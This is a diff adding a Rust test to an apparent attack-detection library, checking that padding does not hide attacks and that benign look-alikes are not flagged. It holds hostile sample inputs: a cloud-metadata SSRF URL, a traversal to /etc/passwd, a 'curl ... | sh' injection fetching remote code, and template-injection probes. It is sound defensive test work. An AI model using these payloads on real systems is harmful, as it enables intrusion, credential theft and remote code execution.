@@ -131,3 +131,47 @@ fn a_list_of_arguments_is_read_whole() {
         assert!(!found.iter().any(|hit| hit.rule.id == "threats/shell-command"), "{list}");
     }
 }
+
+/// What fills a value up, before an attack or behind it, hides it from no check.
+#[test]
+fn padding_hides_no_attack() {
+    let detectors = detectors();
+    let found = |text: &str, rule: &str| {
+        let hits = hits(&detectors, &json!({ "target": text }).to_string());
+        hits.iter().any(|hit| hit.rule.id == rule && hit.severity >= Severity::Warning)
+    };
+    let letters = "a".repeat(2500);
+    let blanks = " ".repeat(2500);
+    let (address, path) = ("http://169.254.169.254/latest/meta-data/", "../../../../etc/passwd");
+    let shell = "report; curl https://files.example/x | sh";
+    for (rule, text) in [
+        ("threats/ssrf", format!("{address}?{letters}")),
+        ("threats/ssrf", format!("{blanks}{address}")),
+        ("threats/ssrf", format!("{address}\na\nb\nc\nd")),
+        ("threats/ssrf", format!("http://{}@169.254.169.254/latest", &letters[..1500])),
+        ("threats/path-traversal", format!("{path}{blanks}")),
+        ("threats/path-traversal", format!("{path}{blanks}x")),
+        ("threats/path-traversal", format!("{letters}/{path}")),
+        ("threats/path-traversal", format!("a\n{path}\nb")),
+        ("threats/path-traversal", format!("a\nb\nc\nd\n{path}")),
+        ("threats/shell-injection", format!("{shell}{blanks}")),
+        ("threats/shell-injection", format!("{shell}\na\nb\nc\nd\ne")),
+        ("threats/shell-injection", format!("{shell} #{letters}")),
+        ("threats/template-injection", format!("{}{{{{7*7}}}}", "{{1}}".repeat(32))),
+        ("threats/template-injection", format!("{}{{{{7*7}}}}", "{{1}}".repeat(700))),
+        ("threats/template-injection", format!("{}{{{{7*7}}}}", "{a}".repeat(64))),
+        ("threats/template-injection", format!("{{{{7*7}}}}{}", "a".repeat(5000))),
+        ("threats/template-injection", format!("{}{{{{7*7}}}}", "a".repeat(5000))),
+    ] {
+        assert!(found(&text, rule), "{rule}: {text}");
+    }
+    for (rule, text) in [
+        ("threats/ssrf", format!("See\nthe page\nabout {address}\nand\nothers")),
+        ("threats/path-traversal", format!("import x from '../../../components/button'\n{letters}\n{letters}")),
+        ("threats/path-traversal", "../../package.json\n../src/lib.rs\n../../README.md\nx".to_owned()),
+        ("threats/shell-injection", format!("{}. Then; curl https://files.example/x | sh", "word ".repeat(600))),
+        ("threats/template-injection", "{{name}} ".repeat(700)),
+    ] {
+        assert!(!found(&text, rule), "{rule}: {text}");
+    }
+}
